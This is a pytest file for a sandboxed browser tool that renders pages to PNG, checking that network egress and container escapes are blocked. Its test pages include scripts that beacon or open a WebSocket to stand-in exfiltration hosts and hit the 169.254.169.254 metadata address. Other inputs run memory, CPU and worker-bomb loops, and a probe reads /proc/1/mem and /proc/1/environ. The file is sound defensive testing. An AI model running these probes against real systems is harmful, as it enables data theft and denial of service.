"""A browser in real boxes: it draws the pages that its profile holds, and nothing else reaches it or leaves it."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from invocations.decide.profiles import build_limits
from invocations.sandbox.base import IMAGE_MISSING, Profile, RunOutcome, RunStatus, SandboxCall
from invocations.sandbox.egress import EgressGate
from sandbox.image import BROWSER, image_name
from tests.egress.world import PUBLIC, Authority, Names, origin
from tests.support.png_pixels import Picture
from tests.support.sandboxes import call_of, docker_sandbox, package_of
from unitools.capabilities import Capabilities
from unitools.manifest import Manifest
from unitools.packages import build_zip

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from invocations.sandbox.docker import DockerSandbox

ROOT = Path(__file__).resolve().parents[2]
MANIFEST = Manifest(json.loads((ROOT / "tools/web/manifests/web.pages.render_png.json").read_text()))
HOST, ELSEWHERE = "pages.test", "elsewhere.test"
GREEN, RED = (0, 160, 64), (200, 0, 0)


def page(body: str, *, status: str = "200 OK") -> bytes:
    content = f"<!doctype html><meta charset=utf-8>{body}".encode()
    head = (
        f"HTTP/1.1 {status}\r\nContent-Type: text/html\r\nContent-Length: {len(content)}\r\nConnection: close\r\n\r\n"
    )
    return head.encode() + content


class World:
    """One page, on a host with a certificate of the tests' authority, and a sandbox whose operator trusts that."""

    def __init__(self, sandbox: DockerSandbox, port: int) -> None:
        self.sandbox, self.port = sandbox, port

    def url(self, host: str = HOST) -> str:
        return f"https://{host}:{self.port}/"

    def profile(self, *, browser: bool = True) -> Profile:
        reach = Capabilities.of_manifest(MANIFEST)
        net = [{"host": HOST, "port": self.port}]
        reach = reach.replaced(net=Capabilities.from_json({"net": net}).net)
        if not browser:
            reach = reach.replaced(browser=Capabilities.from_json({}).browser)
        return Profile(build_limits(reach), reach, isolation="single")

    def render(self, url: str = "", **arguments: Any) -> RunOutcome:
        package = build_zip(ROOT / "tools" / "web")
        call = call_of(package, module=MANIFEST.module, entry=MANIFEST.entry, url=url or self.url(), **arguments)
        return self.run(call)

    def run(self, call: SandboxCall, *, browser: bool = True) -> RunOutcome:
        return self.sandbox.run(self.profile(browser=browser), replace(call, image=image_name(kind=BROWSER)))


@pytest.fixture
def world_of(tmp_path: Path) -> Iterator[Callable[..., World]]:
    opened: list[Any] = []

    def make(body: str, *, trusted: bool = True, **options: Any) -> World:
        authority, names = Authority(tmp_path), Names()
        for name in (HOST, ELSEWHERE):
            names.say(name, [PUBLIC])
        served = origin(context=authority.server_context(HOST, ELSEWHERE), answer=page(body, **options))
        port = served.__enter__().port
        gate = EgressGate([f"{PUBLIC}/32"], ca_file=authority.roots if trusted else None, resolve=names)
        sandbox = docker_sandbox(gate=gate)
        opened.extend((sandbox, served))
        return World(sandbox, port)

    yield make
    for each in opened:
        each.close() if hasattr(each, "close") else each.__exit__(None, None, None)


@pytest.mark.req("TOOLS-3", "TOOLS-16")
def test_a_page_of_a_host_that_the_operator_admits_is_drawn(world_of: Callable[..., World]) -> None:
    world = world_of(
        f"<title>绿</title><body style='margin:0;background:rgb{GREEN}'><div style='width:100px;height:100px;background:rgb{RED}'>"
    )

    outcome = world.render(width=400, height=300)

    assert outcome.status is RunStatus.OK, outcome
    value = outcome.value
    assert (value["status"], value["title"], value["url"]) == (200, "绿", world.url())
    png = base64.b64decode(value["png_base64"])
    picture = Picture(png)
    assert (picture.width, picture.height, len(png)) == (400, 300, value["bytes"])
    assert (picture.pixel(50, 50), picture.pixel(350, 250)) == (RED, GREEN)
    assert outcome.level == "single"
    assert {(each.host, each.port, each.allowed) for each in outcome.connections} == {(HOST, world.port, True)}
    assert outcome.attempts == ()


def test_scripts_of_a_page_run_before_the_picture_is_taken(world_of: Callable[..., World]) -> None:
    world = world_of(
        "<body><script>new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => {"
        f"document.body.style.background = 'rgb{GREEN}'; document.title = 'done' }}</script>"
    )

    outcome = world.render(width=320, height=240)

    assert outcome.status is RunStatus.OK, outcome
    assert outcome.value["title"] == "done"
    assert Picture(base64.b64decode(outcome.value["png_base64"])).pixel(300, 200) == GREEN


@pytest.mark.req("TOOLS-16", "SVC-10")
def test_a_page_of_another_host_is_refused_and_witnessed(world_of: Callable[..., World]) -> None:
    world = world_of("<body>secret")

    outcome = world.render(world.url(ELSEWHERE))

    assert (outcome.status, outcome.blocked) == (RunStatus.CAPABILITY_BLOCKED, "net"), outcome
    assert f"net:{ELSEWHERE}:{world.port}" in outcome.attempts
    assert {(each.host, each.allowed, each.why) for each in outcome.connections} == {(ELSEWHERE, False, "not_granted")}


@pytest.mark.req("TOOLS-16")
def test_what_a_page_loads_from_elsewhere_is_left_out_and_witnessed(world_of: Callable[..., World]) -> None:
    world = world_of(
        f"<body style='background:rgb{GREEN}'><img src='https://{ELSEWHERE}/x.png'><iframe src='https://169.254.169.254/'></iframe>"
        "<script>fetch('http://127.0.0.1:3128/'); new WebSocket('wss://exfiltrate.test/');"
        "navigator.sendBeacon('https://beacon.test/', 'x')</script>"
    )

    outcome = world.render(width=400, height=300)

    assert outcome.status is RunStatus.OK, outcome
    assert {each.host for each in outcome.connections if each.allowed} == {HOST}
    refused = {each.host for each in outcome.connections if not each.allowed}
    assert {ELSEWHERE, "169.254.169.254", "exfiltrate.test", "beacon.test"} <= refused


def test_a_host_that_nobody_trusts_is_no_page(world_of: Callable[..., World]) -> None:
    outcome = world_of("<body>", trusted=False).render()

    assert (outcome.status, outcome.error_code) == (RunStatus.DOMAIN_ERROR, "UPSTREAM_ERROR"), outcome
    assert "ERR_CERT_AUTHORITY_INVALID" in outcome.error_message


def test_an_answer_that_is_an_error_is_still_a_page(world_of: Callable[..., World]) -> None:
    outcome = world_of("<title>gone</title>", status="410 Gone").render()

    assert (outcome.status, outcome.value["status"], outcome.value["title"]) == (RunStatus.OK, 410, "gone")


def test_a_picture_that_is_too_large_is_refused_as_the_callers_mistake(world_of: Callable[..., World]) -> None:
    noise = (
        "<canvas id=c width=1920 height=1200></canvas><script>const c = document.getElementById('c').getContext('2d');"
        "const d = c.createImageData(1920, 1200); for (let i = 0; i < d.data.length; i += 65536)"
        " crypto.getRandomValues(d.data.subarray(i, i + 65536)); c.putImageData(d, 0, 0)</script>"
    )

    outcome = world_of(noise).render(width=1920, height=1200)

    assert (outcome.status, outcome.error_code) == (RunStatus.DOMAIN_ERROR, "INVALID_ARGUMENT"), outcome


@pytest.mark.attack
@pytest.mark.parametrize(
    "body",
    [
        "<script>const a = []; for (;;) a.push(new Uint8Array(1e8).fill(1))</script>",
        "<script>for (;;) {}</script>",
        "<script>for (let i = 0; i < 500; i++) new Worker(URL.createObjectURL(new Blob(['for(;;){}'])))</script>",
    ],
    ids=["memory", "processor", "threads"],
)
def test_a_hostile_page_ends_its_own_call_and_no_other(
    world_of: Callable[..., World], body: str, tmp_path: Path
) -> None:
    world = world_of(body)
    package = build_zip(ROOT / "tools" / "web")
    call = call_of(package, module=MANIFEST.module, entry=MANIFEST.entry, url=world.url(), width=320, height=240)
    profile = world.profile()
    profile = replace(profile, limits=replace(profile.limits, wall_ms=12_000))

    outcome = world.sandbox.run(profile, replace(call, image=image_name(kind=BROWSER)))
    after = world.sandbox.run(Profile(), call_of(package_of(tmp_path, main="def run(): return 42")))

    assert outcome.status is not RunStatus.OK, outcome
    assert after.value == 42


@pytest.mark.req("TOOLS-16")
def test_without_the_capability_there_is_no_browser_in_the_same_image(world_of: Callable[..., World]) -> None:
    world = world_of("<body>")
    call = call_of(build_zip(ROOT / "tools" / "web"), module=MANIFEST.module, entry=MANIFEST.entry, url=world.url())

    outcome = world.run(call, browser=False)

    assert (outcome.status, outcome.blocked) == (RunStatus.CAPABILITY_BLOCKED, "proc"), outcome


LOOKS = """
import os
def tried(act):
    try: return act()
    except OSError as error: return error.errno
def fill(path, most):
    written = 0
    with open(path, "wb") as file:
        try:
            while written < most: written += file.write(bytes(1 << 20)); file.flush()
        except OSError: pass
    os.unlink(path)
    return written >> 20
def run():
    return {
        "supervisor's memory": tried(lambda: open("/proc/1/mem", "rb").read(1)),
        "supervisor's environment": tried(lambda: open("/proc/1/environ", "rb").read(1)),
        "supervisor's descriptors": tried(lambda: os.listdir("/proc/1/fd")),
        "another program": tried(lambda: os.execv("/usr/local/bin/sandbox-python", ["python", "-V"])),
        "a program of its own": tried(lambda: os.execv("/dev/shm/x", ["x"])),
        "shared memory in MiB": fill("/dev/shm/x", 1 << 30) <= 256,
    }
"""


@pytest.mark.attack
def test_what_a_browser_is_given_more_opens_no_other_door(world_of: Callable[..., World], tmp_path: Path) -> None:
    outcome = world_of("<body>").run(call_of(package_of(tmp_path, main=LOOKS)))

    assert outcome.value == {
        "supervisor's memory": 13,
        "supervisor's environment": 13,
        "supervisor's descriptors": 13,
        "another program": 13,
        "a program of its own": 2,
        "shared memory in MiB": True,
    }, outcome


def test_an_image_that_is_not_there_is_named_with_the_command_that_builds_it(tmp_path: Path) -> None:
    sandbox = docker_sandbox()
    call = replace(call_of(package_of(tmp_path, main="def run(): return 1")), image="toolhub-sandbox-browser:none")

    outcome = sandbox.run(Profile(), call)
    after = sandbox.run(Profile(), replace(call, name="after", image=""))

    assert (outcome.status, outcome.error_code) == (RunStatus.START_FAILED, IMAGE_MISSING)
    assert "make sandbox-images" in outcome.error_message
    assert after.value == 1
    sandbox.close()
